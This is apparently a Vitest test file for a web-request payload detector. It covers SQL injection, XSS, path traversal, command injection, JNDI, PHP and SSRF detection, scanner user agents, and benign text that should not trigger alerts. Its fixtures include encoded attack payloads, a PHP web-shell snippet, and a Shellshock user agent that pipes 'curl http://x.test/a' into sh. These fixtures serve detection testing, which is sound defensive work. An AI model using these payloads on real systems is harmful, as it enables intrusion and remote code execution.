// Each attack class through the encodings attackers use, and hard benign text that must stay quiet.
import { describe, expect, it } from "vitest";
import { normalizeEvent } from "@/lib/pipeline/normalize.ts";
import { detectPayloads, PAYLOAD_DETECTORS } from "./index.ts";

const query = (value: string) =>
  normalizeEvent({ url: { original: `/p?x=${value}` }, http: { request: { method: "GET" } } });
const body = (content: string) =>
  normalizeEvent({ url: { original: "/submit" }, http: { request: { method: "POST", body: { content } } } });
const categories = (e: ReturnType<typeof query>) => [...new Set(detectPayloads(e).map((d) => d.category))];

describe("payload detectors", () => {
  it.each([
    ["sqli", "1%27%20UnIoN%2F**%2FsElEcT%201%2C2--"],
    ["sqli", "1%2527%2520or%25201%253D1--%2520"],
    ["sqli", "1;drop table users"],
    ["xss", "%3Csvg%2Fonload%3Dalert(1)%3E"],
    ["xss", "%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B"],
    ["xss", "jav%09ascript:alert(1)"],
    ["path_traversal", "..%252f..%252f..%252fetc%252fpasswd"],
    ["command_injection", "8.8.8.8%3B%20cat%20%2Fetc%2Fpasswd"],
    ["command_injection", "%24(id)"],
    ["java_injection", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"],
    ["php_injection", "%3C%3Fphp%20system(%24_GET%5Bc%5D)%3B%20%3F%3E"],
    ["ssrf", "http%3A%2F%2F169.254.169.254%2Flatest%2F"],
  ])("finds %s in %s", (category, value) => {
    expect(categories(query(value))).toContain(category);
  });

  it("reads form and JSON bodies field by field and names the parameter", () => {
    const [detection] = detectPayloads(body('{"user": {"name": "x\' OR \'1\'=\'1"}}'));
    expect(detection).toMatchObject({
      category: "sqli",
      field: "http.request.body.content",
      points: 5,
      technique: "T1190",
    });
    expect(detection!.reason).toContain("user.name");
    expect(categories(body("comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E&rating=5"))).toEqual(["xss"]);
  });

  it("recognises attack tools by user agent", () => {
    const event = normalizeEvent({ url: { original: "/" }, user_agent: { original: "sqlmap/1.8#stable" } });
    expect(detectPayloads(event).map((d) => d.id)).toEqual(["sn-scanner-user-agent"]);
  });

  it.each([
    "O'Brien's order didn't arrive",
    "Please select the best union plan or drop by",
    "It's a 1=1 kind of deal",
    "Привет, как дела? 你好",
    "Rock 'n' roll -- forever",
    "function add(a, b) { return a + b; }",
    "100% cotton, size 5 < 10",
    "meet at 10:30; bring docs & laptop",
  ])("stays quiet on %s", (text) => {
    expect(detectPayloads(body(JSON.stringify({ comment: text })))).toEqual([]);
    expect(detectPayloads(query(encodeURIComponent(text)))).toEqual([]);
  });

  it("adds weaker signals only at higher paranoia levels", () => {
    const event = body(JSON.stringify({ note: "select name from customers" }));
    expect(detectPayloads(event, { paranoia: 1 })).toEqual([]);
    expect(detectPayloads(event, { paranoia: 2 }).map((d) => d.id)).toContain("sn-sqli-keywords");
  });

  it("gives the same verdicts on a user agent seen before, at each level, whatever else the event holds", () => {
    const agent = "Mozilla/5.0 () { :; }; /bin/bash -c 'curl http://x.test/a | sh' ${jndi:ldap://x.test/a}";
    const event = (path: string) => normalizeEvent({ url: { original: path }, user_agent: { original: agent } });
    for (const paranoia of [1, 2, 3] as const) {
      const first = detectPayloads(event("/"), { paranoia });
      expect(first.map((d) => d.category)).toEqual(expect.arrayContaining(["command_injection", "java_injection"]));
      expect(detectPayloads(event("/"), { paranoia })).toEqual(first);
      // A detector already fired by the URL reports the URL; the agent's cached verdicts fill in the rest.
      const both = detectPayloads(event("/a?x=%24%7Bjndi%3Aldap%3A%2F%2Fy.test%2Fb%7D"), { paranoia });
      expect(both.find((d) => d.category === "java_injection")?.field).toBe("url.original");
      expect(both.map((d) => d.category)).toContain("command_injection");
    }
  });

  // Verdicts on a user agent are reused across events (index.ts): a detector that reads the rest
  // of the event must say so, or it would be answered from another event's verdict.
  it("marks every detector that reads the event", () => {
    const unmarked = PAYLOAD_DETECTORS.filter((d) => d.match.length >= 3 && !d.readsEvent).map((d) => d.id);
    expect(unmarked).toEqual([]);
    expect(PAYLOAD_DETECTORS.filter((d) => d.readsEvent).length).toBeGreaterThan(0);
  });
});
